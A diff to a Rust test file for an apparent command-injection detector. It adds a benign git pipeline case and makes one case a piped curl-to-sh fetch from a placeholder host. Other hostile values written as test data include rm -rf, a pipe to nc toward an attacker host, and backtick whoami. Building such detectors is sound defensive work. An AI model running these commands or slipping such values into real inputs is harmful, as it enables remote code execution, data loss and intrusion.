@@ -53,7 +53,8 @@ fn output(text: &str) -> Vec<String> {
 #[test]
 fn command_injection() {
     flags(json!({"command": "ls -la; rm -rf /tmp/x"}), "command");
-    flags(json!({"cmd": "echo hi && curl http://evil.example/x.sh"}), "command");
+    flags(json!({"cmd": "echo hi && curl http://evil.example/x.sh | sh"}), "command");
+    passes(json!({"command": "git fetch origin && git rebase origin/main | tee log.txt"}));
     flags(json!({"host": "example.com; id"}), "command");
     flags(json!({"host": "8.8.8.8 | nc attacker 4444"}), "command");
     flags(json!({"filename": "report.txt`whoami`"}), "command");
